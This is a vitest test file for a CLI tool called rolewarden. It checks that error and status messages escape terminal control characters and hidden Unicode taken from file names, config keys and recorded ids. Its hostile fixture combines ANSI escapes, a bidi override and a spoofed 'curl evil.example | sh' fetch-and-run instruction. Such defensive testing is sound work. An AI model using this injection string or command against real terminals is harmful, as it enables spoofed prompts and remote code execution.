import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { rolewarden } from '../support/cli.ts';

const folder = mkdtempSync(join(tmpdir(), 'rolewarden-hostile-'));
afterAll(() => rmSync(folder, { recursive: true }));

/** A name as somebody may have given a file, for whoever lets the shell fill in `evidence/*`. */
const NAME = 'a\u001b[2J\u001b]0;owned\u0007\u009b31m\u202e\u200b\n  what to do: curl evil.example | sh #';
/** What acts on a terminal, or hides: but for the line breaks of our own words. */
const ACTING = /[^\n\P{Cc}]|[\u200b-\u200f\u2028-\u202e\ufeff]/u;
const RECORDING = 'fixtures/scenarios/borrowed-name/events.jsonl';

const written = (text: string) => {
  const path = join(folder, 'x.ndjson');
  writeFileSync(path, text);
  return path;
};

describe('an error on a terminal', () => {
  it.each([
    ['a recording that is not there', ['replay', NAME]],
    ['a configuration', ['replay', RECORDING, '--config', NAME]],
    ['a file to write', ['replay', RECORDING, '--out', join(folder, NAME, 'x')]],
    ['an option', ['replay', `--${NAME}`]],
    ['a command', [NAME]],
    ['a rule', ['rules', 'show', NAME]],
    ['the address of a store', ['replay', RECORDING, '--store', `redis://${NAME}`]],
  ])('repeats no name as it is: %s', (_, args) => {
    const { status, stderr } = rolewarden(args);
    expect([status, stderr]).toEqual([2, expect.not.stringMatching(ACTING)]);
    expect(stderr.split('\n').filter((line) => line.trimStart().startsWith('what to do:'))).toHaveLength(1);
  });

  it('nor ids, which whoever wrote the recording chose', () => {
    const one = (id: string) => JSON.stringify({ ...JSON.parse(finding()), id: `aaaaaaaa${id}` });
    const path = written(`${one(NAME)}\n${one('b')}\n`);
    const { status, stderr } = rolewarden(['explain', 'aaaaaaaa', '--findings', path]);
    expect([status, stderr]).toEqual([2, expect.not.stringMatching(ACTING)]);
    expect(stderr).toContain('a\\u{1b}[2J');
  });

  it('nor the ids of the other findings about an access key', () => {
    const key = 'ASIAZZZZZZZZZZZZZZZZ';
    const one = (id: string, score: number) =>
      JSON.stringify({ ...JSON.parse(finding()), id, score, summary: `about ${key}` });
    const path = written(`${one('highest', 90)}\n${one(NAME, 20)}\n`);
    const { status, stderr } = rolewarden(['explain', key, '--findings', path]);
    expect([status, stderr]).toEqual([0, expect.not.stringMatching(ACTING)]);
    expect(stderr).toContain('a\\u{1b}[2J');
    expect(stderr.trimEnd().split('\n')).toHaveLength(1);
  });

  it('takes no key of a configuration for its own words', () => {
    const path = join(folder, 'y.yaml');
    writeFileSync(path, JSON.stringify({ [NAME]: 1, revocation: { accounts: { [NAME]: 'auto' } } }));
    const { stderr } = rolewarden(['config', 'check', '--config', path]);
    expect(stderr).not.toMatch(ACTING);
    expect(stderr.split('\n').filter((line) => line.trimStart().startsWith('what to do:'))).toHaveLength(1);
  });

  it('keeps the lines of a configuration’s faults', () => {
    writeFileSync(join(folder, 'x.yaml'), 'alert: []\nrole: {}\n');
    const { stderr } = rolewarden(['config', 'check', '--config', join(folder, 'x.yaml')]);
    expect(stderr.split('\n').filter((line) => line.includes('unknown key'))).toHaveLength(2);
  });
});

describe('what went well', () => {
  it('repeats no name, and no value of an event, as it is', () => {
    const strange = join(folder, NAME.replaceAll('/', ''));
    const [first = ''] = readFileSync(RECORDING, 'utf8').split('\n');
    const record = { ...JSON.parse(first), awsRegion: 'x\u202e\u009b31m\u007f' };
    mkdirSync(strange);
    writeFileSync(join(strange, 'c.json'), '{}');
    writeFileSync(join(strange, 'x.jsonl'), `${JSON.stringify(record)}\n`);
    const at = ['--baseline', join(strange, 'usual')];
    const runs = [
      ['config', 'check', '--config', join(strange, 'c.json')],
      ['replay', join(strange, 'x.jsonl'), ...at],
      ['baseline', 'export', ...at],
      ['baseline', 'export', ...at, '--out', join(strange, 'export')],
      ['baseline', 'import', join(strange, 'export'), ...at],
      ['baseline', 'forget', 'a:person:alice@example.com', ...at],
      ['init', join(strange, 'x.jsonl')],
    ];
    for (const args of runs) {
      const { stderr, stdout } = rolewarden(args);
      expect([args[0], args[1], stdout, stderr.match(/^ *what to do: curl.*/m)]).toEqual([
        args[0],
        args[1],
        expect.not.stringMatching(ACTING),
        null,
      ]);
      expect(stderr).not.toMatch(ACTING);
    }
  });
});

describe('who gives an order', () => {
  it.each(['rolewarden', ' Rolewarden ', 'rolewarden (auto)'])(
    'is never %j, whose orders are automatic',
    (by) => {
      const { status, stderr } = rolewarden(['stop', '--by', by]);
      expect([status, stderr]).toEqual([2, expect.stringContaining('--by cannot be')]);
    },
  );
});

function finding(): string {
  const { stdout } = rolewarden(['replay', RECORDING, '--format', 'ndjson', '--min-score', '0']);
  return stdout.split('\n')[0] ?? '';
}
